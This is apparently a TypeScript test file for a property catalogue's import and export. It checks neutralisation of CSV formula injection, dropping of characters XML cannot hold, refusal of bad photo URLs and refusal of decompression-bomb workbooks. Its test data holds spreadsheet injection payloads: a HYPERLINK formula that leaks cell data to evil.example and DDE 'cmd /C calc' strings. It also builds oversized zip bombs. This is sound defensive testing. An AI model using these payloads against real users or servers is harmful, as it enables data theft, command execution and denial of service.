// Catalogue files an attacker or an accident sends (decisions 0041, 0060): photo addresses the
// fetch cannot parse, refused at the preview with their row and column, never found out at the
// confirmation; texts a spreadsheet would run as formulas, written as text in the CSV export and
// read back exactly by the import; workbooks that unpack to far more than the upload limit
// (decision 0061), built here as a few hundred kilobytes, refused before exceljs reads them while
// the server keeps serving.
import { parse } from 'csv-parse/sync';
import { asc } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import * as schema from '../../../server/db/schema.ts';
import { createTestApp, type TestApp } from '../../helpers/app.ts';
import { loginAs, type LoggedIn } from '../../helpers/auth.ts';
import { createProperty, deleteAllProperties } from '../../helpers/factories.ts';
import {
  HEADER,
  confirmImport,
  countProperties,
  csvFile,
  newRow,
  sendImport,
} from '../../helpers/property-io.ts';
import { manySharedStrings, workbookParts, zipOf } from '../../helpers/xlsx-zip.ts';
import { expectClear4xx, reportTally, tally } from './clear-answer.ts';

let t: TestApp;
let admin: LoggedIn;

beforeAll(async () => {
  t = await createTestApp({ demo: false });
  admin = await loginAs(t, 'superadmin');
}, 120_000);
afterAll(async () => {
  reportTally('spreadsheets');
  await t?.close();
});

describe('formulas in the CSV export', () => {
  // Each a title a spreadsheet would run; the last two already start with an apostrophe.
  const FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1;"Villa")',
    "+213 cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=1+1",
    "''-1",
  ];
  const LEADING_SPACE = ['\t=1+1', '\r=1+1'];

  const exportCsv = async () => {
    const response = await admin.inject({ url: '/api/admin/property/export?format=csv' });
    expect(response.statusCode).toBe(200);
    return response;
  };
  const cellsOf = (csv: string, column: string): string[] =>
    (parse(csv, { bom: true, delimiter: ';', columns: true }) as Record<string, string>[]).map(
      (row) => row[column]!,
    );

  it('writes a text that starts like a formula with a leading apostrophe', async () => {
    await deleteAllProperties(t.services.db);
    for (const name of [...FORMULAS, ...LEADING_SPACE, 'Villa = 3 pièces', '-']) {
      await createProperty(t.services.db, { name_fr: name, name_en: `${name} (en)`, images: [] });
    }
    const cells = cellsOf((await exportCsv()).body, 'name_fr');
    for (const name of [...FORMULAS, ...LEADING_SPACE, '-']) {
      tally.tried += 1;
      if (!cells.includes(`'${name}`)) tally.wronglyAccepted += 1;
      expect(cells, JSON.stringify(name)).toContain(`'${name}`);
    }
    // Nothing to neutralise: as it is.
    expect(cells).toContain('Villa = 3 pièces');
    // No cell of the file starts like a formula.
    for (const column of ['name_fr', 'name_en']) {
      for (const cell of cellsOf((await exportCsv()).body, column)) {
        expect(cell, JSON.stringify(cell)).not.toMatch(/^[=+\-@\t\r]/);
      }
    }
  });

  it('reads its own CSV back exactly: the import takes off the apostrophe it added', async () => {
    await deleteAllProperties(t.services.db);
    for (const name of FORMULAS) {
      await createProperty(t.services.db, { name_fr: name, name_en: name, images: [] });
    }
    const before = await t.services.db
      .select()
      .from(schema.properties)
      .orderBy(asc(schema.properties.id));
    const exported = await exportCsv();
    const preview = await sendImport(admin, exported.rawPayload);
    expect(preview.statusCode).toBe(200);
    expect(preview.json()).toMatchObject({ update_count: FORMULAS.length, error_count: 0 });
    expect(
      preview
        .json()
        .rows.map((row: { name_fr: string }) => row.name_fr)
        .sort(),
    ).toEqual([...FORMULAS].sort());
    expect((await confirmImport(admin, preview.json().id)).statusCode).toBe(200);
    const after = await t.services.db
      .select()
      .from(schema.properties)
      .orderBy(asc(schema.properties.id));
    expect(after.map((row) => [row.name_fr, row.name_en])).toEqual(
      before.map((row) => [row.name_fr, row.name_en]),
    );
  });
});

describe('characters XML cannot hold in the XLSX export', () => {
  it('drops them, and the workbook stays readable and imports back', async () => {
    await deleteAllProperties(t.services.db);
    const named = await createProperty(t.services.db, {
      name_fr: 'Villa\uffff à \ufffeOran\u0001\u001f',
      name_en: 'Villa \u{1F3E0} in Oran',
      images: [],
    });
    const exported = await admin.inject({ url: '/api/admin/property/export?format=xlsx' });
    expect(exported.statusCode).toBe(200);
    const preview = await sendImport(admin, exported.rawPayload, 'biens.xlsx');
    tally.tried += 1;
    if (preview.statusCode >= 500) tally.serverErrors += 1;
    expect(preview.statusCode, preview.body).toBe(200);
    expect(preview.json().rows[0].errors).toEqual([]);
    expect(preview.json()).toMatchObject({ update_count: 1, error_count: 0 });
    expect(preview.json().rows[0]).toMatchObject({
      property_id: named.id,
      name_fr: 'Villa à Oran',
    });
  });
});

describe('photo addresses in an import', () => {
  it('refuses at the preview an address the URL parser cannot read, with its row', async () => {
    const count = await countProperties(t);
    const addresses = ['http://a]b/x', 'https://[::1/x.jpg', 'http://exa mple.org/x.jpg'];
    for (const address of addresses) {
      const file = csvFile([
        [...HEADER, 'images'],
        [...newRow('Villa à photo'), address],
      ]);
      const preview = await sendImport(admin, file);
      expect(preview.statusCode, address).toBe(200);
      tally.tried += 1;
      const errors = preview.json().rows[0].errors;
      if (errors.length === 0) tally.wronglyAccepted += 1;
      expect(errors, address).toEqual([
        {
          column: 'images',
          message: `Adresse de photo invalide : « ${address} » (https://… attendu).`,
        },
      ]);
      const confirm = await confirmImport(admin, preview.json().id);
      expectClear4xx(confirm, `confirm ${address}`, 409);
      expect(confirm.json().code).toBe('import.has_errors');
    }
    expect(await countProperties(t)).toBe(count);
  });
});

describe('workbooks that unpack to too much', () => {
  const rows = [newRow('Villa du classeur')];
  /** About 152 MB of shared strings: 150,000 strings of 1,000 letters. */
  const bigStrings = manySharedStrings(150_000, 'x'.repeat(1_000));

  async function expectRefused(file: Buffer, label: string, status: number, reason: RegExp) {
    const started = performance.now();
    const heapBefore = process.memoryUsage().heapUsed;
    const response = await sendImport(admin, file, 'classeur.xlsx');
    const ms = Math.round(performance.now() - started);
    const heapMb = Math.round((process.memoryUsage().heapUsed - heapBefore) / 1024 / 1024);
    console.log(`${label}: ${file.length} bytes refused ${status} in ${ms} ms, heap +${heapMb} MB`);
    expectClear4xx(response, label, status);
    expect(response.json().message, label).toMatch(reason);
    // Refused before the workbook is read: in seconds, whatever it unpacks to.
    expect(ms, label).toBeLessThan(15_000);
    // The server keeps serving.
    expect((await t.app.inject({ url: '/api/properties?limit=1' })).statusCode).toBe(200);
  }

  it('reads a workbook within the bounds, built the same way', async () => {
    const file = await zipOf(workbookParts(HEADER, rows));
    const preview = await sendImport(admin, file, 'classeur.xlsx');
    expect(preview.statusCode, preview.body).toBe(200);
    expect(preview.json()).toMatchObject({ create_count: 1, error_count: 0 });
    expect(preview.json().rows[0].name_fr).toBe('Villa du classeur');
  });

  it('refuses shared strings that unpack past 100 MB, from the zip directory (413)', async () => {
    const file = await zipOf(workbookParts(HEADER, rows, { content: bigStrings }));
    expect(file.length).toBeLessThan(2_000_000);
    await expectRefused(file, 'shared strings of 152 MB', 413, /sharedStrings\.xml is 145 MB/);
  }, 60_000);

  it('refuses a part that unpacks to more than its zip directory says (400)', async () => {
    const file = await zipOf(
      workbookParts(HEADER, rows, { content: bigStrings, declaredSize: 10_000 }),
    );
    await expectRefused(file, 'a directory that lies', 400, /more than its zip directory says/);
  }, 60_000);

  it('refuses more than a million shared strings (413)', async () => {
    const file = await zipOf(
      workbookParts(HEADER, rows, { content: manySharedStrings(1_100_000, 'a') }),
    );
    await expectRefused(file, '1,100,000 shared strings', 413, /1,000,000 shared strings/);
  }, 60_000);

  it('refuses a zip of more than 1,000 parts (413)', async () => {
    const extra = Array.from({ length: 1_000 }, (_, i) => ({
      name: `xl/media/part${i}.xml`,
      content: '<x/>',
    }));
    const file = await zipOf([...workbookParts(HEADER, rows), ...extra]);
    await expectRefused(file, '1,006 parts', 413, /1006 parts/);
  }, 60_000);
});

describe('the whole file', () => {
  it('saw no 5xx and accepted nothing it had to refuse', () => {
    expect(tally.serverErrors).toBe(0);
    expect(tally.wronglyAccepted).toBe(0);
  });
});
